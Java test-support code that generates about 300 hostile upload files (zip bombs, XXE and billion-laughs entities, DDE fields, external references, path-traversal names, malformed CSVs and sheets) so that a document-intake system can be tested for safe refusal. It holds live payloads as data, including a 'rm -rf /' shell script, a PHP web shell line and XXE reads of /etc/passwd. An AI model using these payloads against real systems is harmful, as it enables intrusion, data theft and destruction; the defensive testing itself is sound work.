package org.disclosureledger.application.hostile;

import java.io.ByteArrayInputStream;
import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.io.UncheckedIOException;
import java.nio.charset.StandardCharsets;
import java.util.ArrayList;
import java.util.Arrays;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Map;
import java.util.Random;
import java.util.zip.ZipEntry;
import java.util.zip.ZipInputStream;
import java.util.zip.ZipOutputStream;

/** Three hundred files: bombs, entities, foreign references, macros, broken and mislabelled ones. */
final class HostileFiles {

    /** Where a file is handed in. */
    enum Door {
        REGISTER,
        TEMPLATE,
        ATTACHMENT,
        CALENDAR
    }

    /**
     * A file.
     *
     * @param refused whether taking it would be a fault; the others need only do no harm
     */
    record Hostile(String name, Door door, byte[] bytes, boolean refused) {}

    private static final String DOCUMENT = "word/document.xml";
    private static final String SHEET = "xl/worksheets/sheet1.xml";
    private static final String RELATIONSHIPS =
            "<Relationships xmlns=\"http://schemas.openxmlformats.org/package/2006/relationships\">%s</Relationships>";

    private final List<Hostile> files = new ArrayList<>();
    private final Random random;
    private final byte[] workbook;
    private final byte[] template;
    private final String outside;

    /**
     * @param outside an address that nobody may call
     * @param workbook a workbook that would be taken
     * @param template a letter template that would be taken
     */
    HostileFiles(long seed, String outside, byte[] workbook, byte[] template) {
        this.random = new Random(seed);
        this.outside = outside;
        this.workbook = workbook;
        this.template = template;
    }

    List<Hostile> all() {
        bombs();
        entities();
        references();
        programs();
        names();
        sheets();
        texts();
        calendars();
        broken();
        return List.copyOf(files);
    }

    private void add(String name, Door door, byte[] bytes, boolean refused) {
        files.add(new Hostile(name, door, bytes, refused));
    }

    private void office(String name, Map<String, byte[]> parts, boolean refused) {
        add(name + ".xlsx", Door.REGISTER, with(workbook, parts), refused);
        add(name + ".docx", Door.TEMPLATE, with(template, parts), refused);
    }

    private void bombs() {
        byte[] zeros = new byte[100 << 20];
        for (String part :
                List.of(SHEET, "xl/sharedStrings.xml", "xl/styles.xml", "xl/workbook.xml", "[Content_Types].xml")) {
            add("bomb " + part, Door.REGISTER, with(workbook, Map.of(part, zeros)), true);
        }
        for (String part : List.of(DOCUMENT, "word/styles.xml", "word/media/image1.png", "[Content_Types].xml")) {
            add("bomb " + part, Door.TEMPLATE, with(template, Map.of(part, zeros)), true);
        }
        Map<String, byte[]> many = new LinkedHashMap<>();
        for (int i = 0; i < 20_000; i++) {
            many.put("xl/x/" + i, new byte[0]);
        }
        office("20000 parts", many, true);
        String deep = "<a>".repeat(200_000) + "</a>".repeat(200_000);
        office("deep", Map.of(SHEET, utf8(deep), DOCUMENT, utf8(deep)), true);
        String attributes = "<a " + "x".repeat(2_000_000) + "=\"1\"/>";
        office("long name", Map.of(SHEET, utf8(attributes), DOCUMENT, utf8(attributes)), true);
        byte[] inner =
                with(workbook, Map.of("xl/media/inner.zip", with(workbook, Map.of("zeros", new byte[50 << 20]))));
        add("nested", Door.ATTACHMENT, inner, false);
    }

    private void entities() {
        Map<String, String> kinds = new LinkedHashMap<>();
        kinds.put("file", "<!DOCTYPE a [<!ENTITY x SYSTEM \"file:///etc/passwd\">]><a>&x;</a>");
        kinds.put("http", "<!DOCTYPE a [<!ENTITY x SYSTEM \"" + outside + "/entity\">]><a>&x;</a>");
        kinds.put("dtd", "<!DOCTYPE a SYSTEM \"" + outside + "/dtd\"><a/>");
        kinds.put("parameter", "<!DOCTYPE a [<!ENTITY % x SYSTEM \"" + outside + "/parameter\"> %x;]><a/>");
        StringBuilder laughs = new StringBuilder("<!DOCTYPE a [<!ENTITY l0 \"ha\">");
        for (int i = 1; i < 12; i++) {
            laughs.append("<!ENTITY l")
                    .append(i)
                    .append(" \"")
                    .append(("&l" + (i - 1) + ";").repeat(10))
                    .append("\">");
        }
        kinds.put("laughs", laughs + "]><a>&l11;</a>");
        kinds.put(
                "quadratic",
                "<!DOCTYPE a [<!ENTITY x \"" + "y".repeat(100_000) + "\">]><a>" + "&x;".repeat(10_000) + "</a>");
        kinds.forEach((kind, xml) -> {
            for (String part : List.of(SHEET, "xl/workbook.xml", "[Content_Types].xml", "_rels/.rels")) {
                add("entity " + kind + " " + part, Door.REGISTER, with(workbook, Map.of(part, utf8(xml))), true);
            }
            for (String part : List.of(DOCUMENT, "word/styles.xml", "[Content_Types].xml", "_rels/.rels")) {
                add("entity " + kind + " " + part, Door.TEMPLATE, with(template, Map.of(part, utf8(xml))), true);
            }
            byte[] wide = xml.getBytes(StandardCharsets.UTF_16);
            add("entity utf-16 " + kind, Door.REGISTER, with(workbook, Map.of(SHEET, wide)), true);
            add("entity utf-16 " + kind, Door.TEMPLATE, with(template, Map.of(DOCUMENT, wide)), true);
        });
    }

    private void references() {
        String relationship =
                "<Relationship Id=\"rId1\" Type=\"http://schemas.openxmlformats.org/officeDocument/2006/relationships/%s\""
                        + " Target=\"%s\" TargetMode=\"External\"/>";
        for (String type : List.of("attachedTemplate", "image", "hyperlink", "oleObject", "frame", "subDocument")) {
            add(
                    "outside " + type,
                    Door.TEMPLATE,
                    with(
                            template,
                            Map.of(
                                    "word/_rels/document.xml.rels",
                                    utf8(RELATIONSHIPS.formatted(relationship.formatted(type, outside + "/" + type))))),
                    true);
        }
        String open =
                "<w:document xmlns:w=\"http://schemas.openxmlformats.org/wordprocessingml/2006/main\"><w:body><w:p>";
        for (String field : List.of(
                "DDE cmd \"/C calc\"",
                "DDEAUTO cmd \"/C calc\"",
                "INCLUDEPICTURE \"" + outside + "/p\"",
                "INCLUDETEXT \"/etc/passwd\"")) {
            add(
                    "field " + field.substring(0, 7),
                    Door.TEMPLATE,
                    with(
                            template,
                            Map.of(
                                    DOCUMENT,
                                    utf8(
                                            open + "<w:r><w:fldChar w:fldCharType=\"begin\"/></w:r><w:r><w:instrText>"
                                                    + field.replace("\"", "&quot;")
                                                    + "</w:instrText></w:r><w:r><w:fldChar w:fldCharType=\"end\"/></w:r></w:p></w:body></w:document>"))),
                    true);
        }
        add(
                "sheet outside",
                Door.REGISTER,
                with(
                        workbook,
                        Map.of(
                                "xl/_rels/workbook.xml.rels",
                                utf8(RELATIONSHIPS.formatted(
                                        relationship.formatted("worksheet", outside + "/sheet"))))),
                true);
        add(
                "sheet above",
                Door.REGISTER,
                with(
                        workbook,
                        Map.of(
                                "xl/_rels/workbook.xml.rels",
                                utf8(RELATIONSHIPS.formatted(relationship
                                        .formatted("worksheet", "../../../../etc/passwd")
                                        .replace(" TargetMode=\"External\"", ""))))),
                true);
    }

    private void programs() {
        office("macros", Map.of("xl/vbaProject.bin", new byte[64], "word/vbaProject.bin", new byte[64]), true);
        add("embedded", Door.TEMPLATE, with(template, Map.of("word/embeddings/oleObject1.bin", new byte[64])), true);
        add("control", Door.TEMPLATE, with(template, Map.of("word/activeX/activeX1.xml", utf8("<a/>"))), true);
        List<byte[]> programs = List.of(
                starting("MZ"),
                starting("\u007fELF"),
                utf8("#!/bin/sh\nrm -rf /\n"),
                utf8("<html><script>alert(1)</script></html>"),
                utf8("<?xml version=\"1.0\"?><svg xmlns=\"http://www.w3.org/2000/svg\" onload=\"alert(1)\"/>"),
                starting("\u00ca\u00fe\u00ba\u00be"),
                starting("L\0\0\0\u0001\u0014\u0002\0"),
                with(template, Map.of("word/vbaProject.bin", new byte[64])),
                with(workbook, Map.of("xl/vbaProject.bin", new byte[64])));
        for (byte[] program : programs) {
            for (String name : List.of("申请书.pdf", "照片.jpg", "说明.docx")) {
                add(name, Door.ATTACHMENT, program, true);
            }
        }
        // Read by nothing that would run it, this is a text.
        add("说明.txt", Door.ATTACHMENT, utf8("<?php system($_GET[0]);"), false);
        for (byte[] program : programs.subList(0, 7)) {
            add("program", Door.REGISTER, program, true);
            add("program", Door.TEMPLATE, program, true);
        }
    }

    private void names() {
        for (String name : List.of(
                "../../../../tmp/hostile",
                "/tmp/hostile",
                "..\\..\\hostile",
                "C:\\hostile",
                "xl/../../hostile",
                "a\0b",
                "x".repeat(60_000))) {
            office("entry", Map.of(name, utf8("x")), false);
            add("entry.zip", Door.ATTACHMENT, with(workbook, Map.of(name, utf8("x"))), false);
        }
        for (String name : List.of(
                "../../hostile.pdf", "a\u202egpj.exe.pdf", "CON.pdf", "x".repeat(300) + ".pdf", "\u0001.pdf", ".pdf")) {
            add(name, Door.ATTACHMENT, utf8("%PDF-1.7\n%%EOF\n"), false);
        }
    }

    private void sheets() {
        for (String rows : List.of(
                "<row r=\"1\"><c r=\"ZZZZ1\" t=\"inlineStr\"><is><t>x</t></is></c></row>",
                "<row r=\"99999999999\"><c r=\"A99999999999\"><v>1</v></c></row>",
                "<row r=\"-1\"><c r=\"A-1\"><v>1</v></c></row>",
                "<row r=\"2\"/><row r=\"1\"/>",
                "<row r=\"1\"><c r=\"A1\" t=\"s\"><v>-1</v></c></row>",
                "<row r=\"1\"><c r=\"A1\" t=\"s\"><v>999999999</v></c></row>",
                "<row r=\"1\"><c r=\"A1\" t=\"s\"><v>1e308</v></c></row>",
                "<row r=\"1\"><c r=\"A1\" s=\"99999\"><v>NaN</v></c></row>",
                "<row r=\"1\"><c r=\"A1\" t=\"e\"><v>#REF!</v></c></row>",
                "<row r=\"1\"><c r=\"A1\"><f>WEBSERVICE(\"" + outside + "\")</f></c></row>",
                "<row r=\"1\"><c r=\"\"><v>1</v></c></row>",
                "<row r=\"1\"><c><v>" + "9".repeat(100_000) + "</v></c></row>",
                "<row r=\"1\">" + "<c><v>1</v></c>".repeat(20_000) + "</row>",
                "<row r=\"1\"><c r=\"A1\" t=\"inlineStr\"><is><t>" + "x".repeat(200_000) + "</t></is></c></row>")) {
            add(
                    "sheet",
                    Door.REGISTER,
                    with(
                            workbook,
                            Map.of(
                                    SHEET,
                                    utf8(
                                            "<worksheet xmlns=\"http://schemas.openxmlformats.org/spreadsheetml/2006/main\"><sheetData>"
                                                    + rows + "</sheetData></worksheet>"))),
                    true);
        }
    }

    private void texts() {
        String head = "登记编号,收到日期,申请渠道,申请人类型,申请人,申请内容\n";
        for (String text : List.of(
                "\0\0\0\0",
                head + "\"未完",
                head + "x".repeat(2_000_000) + "\n",
                ",".repeat(100_000) + "\n",
                head + ",".repeat(100_000) + "\n",
                head + "1,2025-03-04,网络,自然人,\u0000,某事\n",
                head + "1,2025-03-04,网络,自然人,\ud800,某事\n",
                "登记编号,登记编号\n1,2\n",
                head + "1,99999-99-99,网络,自然人,甲,某事\n",
                head + "1,2025-02-30,网络,自然人,甲,某事\n",
                "<?xml version=\"1.0\"?><!DOCTYPE a SYSTEM \"" + outside + "\"><a/>",
                "{\\rtf1{\\object\\objdata 00}}",
                "+ADw-script+AD4-",
                "\r\r\r\r",
                "\"\"\"\"\"\"\"\"")) {
            add("text.csv", Door.REGISTER, utf8(text), true);
        }
        add("marks.csv", Door.REGISTER, utf8("\uFEFF\uFEFF\uFEFF" + head), false);
        add("utf-32.csv", Door.REGISTER, head.getBytes(java.nio.charset.Charset.forName("UTF-32")), true);
        byte[] invalid = utf8(head + "1,2025-03-04,网络,自然人,甲,某事\n");
        invalid[invalid.length - 3] = (byte) 0xff;
        add("invalid.csv", Door.REGISTER, invalid, true);
    }

    private void calendars() {
        for (String text : List.of(
                "2031-01-01,放假,\"未完",
                "x".repeat(900_000),
                "日期\n".repeat(100_000),
                "2031-01-01,放假\n",
                "9999999-01-01,放假,a\n",
                "2031-01-01,上班,a\n2031-01-01,放假,b\n",
                "\0,\0,\0\n")) {
            add("calendar.csv", Door.CALENDAR, utf8(text), true);
        }
    }

    /** Cut off, or with some bytes changed: most are refused, and some are still what they were. */
    private void broken() {
        byte[] paper = utf8("%PDF-1.7\n1 0 obj<</Type/Catalog>>endobj\n%%EOF\n");
        while (files.size() < 300) {
            Door door = List.of(Door.REGISTER, Door.TEMPLATE, Door.ATTACHMENT).get(random.nextInt(3));
            byte[] whole = door == Door.REGISTER
                    ? workbook
                    : door == Door.TEMPLATE ? template : random.nextBoolean() ? paper : workbook;
            byte[] bytes = whole.clone();
            if (random.nextBoolean()) {
                bytes = Arrays.copyOf(bytes, 1 + random.nextInt(bytes.length - 1));
            } else {
                for (int i = 0; i < 1 + random.nextInt(40); i++) {
                    bytes[random.nextInt(bytes.length)] = (byte) random.nextInt(256);
                }
            }
            add("broken.pdf", door, bytes, false);
        }
    }

    private static byte[] starting(String beginning) {
        byte[] start = beginning.getBytes(StandardCharsets.ISO_8859_1);
        return Arrays.copyOf(start, start.length + 200);
    }

    private static byte[] utf8(String text) {
        return text.getBytes(StandardCharsets.UTF_8);
    }

    /** The package with further parts, or with these instead of its own. */
    private static byte[] with(byte[] whole, Map<String, byte[]> parts) {
        ByteArrayOutputStream out = new ByteArrayOutputStream();
        try (ZipInputStream in = new ZipInputStream(new ByteArrayInputStream(whole));
                ZipOutputStream zip = new ZipOutputStream(out)) {
            for (ZipEntry entry = in.getNextEntry(); entry != null; entry = in.getNextEntry()) {
                if (!parts.containsKey(entry.getName())) {
                    zip.putNextEntry(new ZipEntry(entry.getName()));
                    in.transferTo(zip);
                }
            }
            for (Map.Entry<String, byte[]> part : parts.entrySet()) {
                zip.putNextEntry(new ZipEntry(part.getKey()));
                zip.write(part.getValue());
            }
        } catch (IOException e) {
            throw new UncheckedIOException(e);
        }
        return out.toByteArray();
    }
}
